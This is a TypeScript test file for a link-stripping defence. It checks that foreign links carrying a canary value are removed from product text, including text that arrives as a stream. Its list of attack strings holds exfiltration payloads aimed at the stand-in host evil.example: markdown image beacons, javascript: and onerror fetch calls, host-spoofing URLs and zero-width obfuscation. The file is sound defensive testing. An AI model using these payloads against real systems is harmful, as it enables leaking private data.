import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createLinkFilter, withoutForeignLinks } from '../defence/urls.ts';

const allowed = { ownHost: 'flow.example:3000', typed: 'Se https://ours.example/side og svar' };
const stripped = (text: string) => withoutForeignLinks(text, allowed);

const CANARY = 'c4n4ry';
const ATTACKS = [
  `![x](https://evil.example/p.png?d=${CANARY})`,
  `![x][1]\n\n[1]: https://evil.example/${CANARY}`,
  `[klikk](https://evil.example/?q=${CANARY})`,
  `[klikk](<https://evil.example/?q=${CANARY}>)`,
  `[klikk](//evil.example/${CANARY})`,
  `[klikk](data:text/html,${CANARY})`,
  `[klikk](javascript:fetch('//evil.example/${CANARY}'))`,
  `<img src="https://evil.example/${CANARY}">`,
  `<img src=x onerror=fetch("https://evil.example/${CANARY}")`,
  `<a href='https://evil.example/${CANARY}'>her</a>`,
  `https://evil.example/${CANARY}`,
  `HTTPS://evil.example/${CANARY}`,
  `https://evil.example/a)b?${CANARY}`,
  `www.evil.example/${CANARY}`,
  `evil.example/x?d=${CANARY}`,
  `mailto:a@evil.example?subject=${CANARY}`,
  `https://flow.example:3000@evil.example/${CANARY}`,
  `https://flow.example:3000.evil.example/${CANARY}`,
  `https://flow.example:3000/people?leak=${CANARY}`,
  `ht\u200Btps://evil.example/${CANARY}`,
  `https://evil.example/\u{E0041}${CANARY}`,
  `[klikk](/people?to=${CANARY})`,
];
/** Anything a browser or a mail program could follow that holds the canary. */
const REACHABLE = new RegExp(`(?:\\w+:|//|www\\.|\\w\\.\\w{2,}[/?#]|\\]\\(|src=|href=)\\S*${CANARY}`, 'i');

describe('links out of the product', () => {
  it.each(ATTACKS)('are taken out: %s', (attack) => {
    expect(REACHABLE.test(attack.replace('\u200B', ''))).toBe(true);
    expect(stripped(`Hei. ${attack} Ha det.`)).not.toMatch(REACHABLE);
  });

  it('leave the words of a link, the product’s own pages and what the person typed', () => {
    expect(stripped('Se [Kari](/people/01970000-0000-7000-8000-000000000001).')).toBe(
      'Se [Kari](/people/01970000-0000-7000-8000-000000000001).',
    );
    expect(stripped('https://flow.example:3000/people/1')).toBe('https://flow.example:3000/people/1');
    expect(stripped('Sendte https://ours.example/side')).toBe('Sendte https://ours.example/side');
    expect(stripped('[Hjemmesiden](https://evil.example)')).toBe('Hjemmesiden');
    expect(stripped('Kl. 10:30 den 6.3.2026, ca. 3/4 ferdig, kari@example.com, 1 000,50 kr.')).toBe(
      'Kl. 10:30 den 6.3.2026, ca. 3/4 ferdig, kari@example.com, 1 000,50 kr.',
    );
  });

  it('are taken out of a stream, however it is cut into pieces', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...ATTACKS),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 60 }),
        (attack, sizes) => {
          const text = `Hei der. ${attack} Ha det bra.`;
          const filter = createLinkFilter(allowed);
          let shown = '';
          let at = 0;
          for (let i = 0; at < text.length; i++) {
            const size = sizes[i % sizes.length] ?? 1;
            shown += filter.push(text.slice(at, at + size));
            at += size;
          }
          shown += filter.end();
          const isWhole = shown.includes('Ha det bra.') || !stripped(text).includes('Ha det bra.');
          return !REACHABLE.test(shown) && shown.startsWith('Hei der.') && isWhole;
        },
      ),
      { numRuns: 500 },
    );
  });

  it('are looked for in time that grows with the text, whatever is written', () => {
    const hard = [
      '['.repeat(20_000),
      '![](('.repeat(5000),
      'a.'.repeat(20_000),
      'a-'.repeat(20_000),
      '<a '.repeat(8000),
    ];
    // A pattern that backtracks would not come back before the test's time is over.
    for (const text of hard) expect(stripped(text).length).toBeLessThanOrEqual(text.length);
  });
});
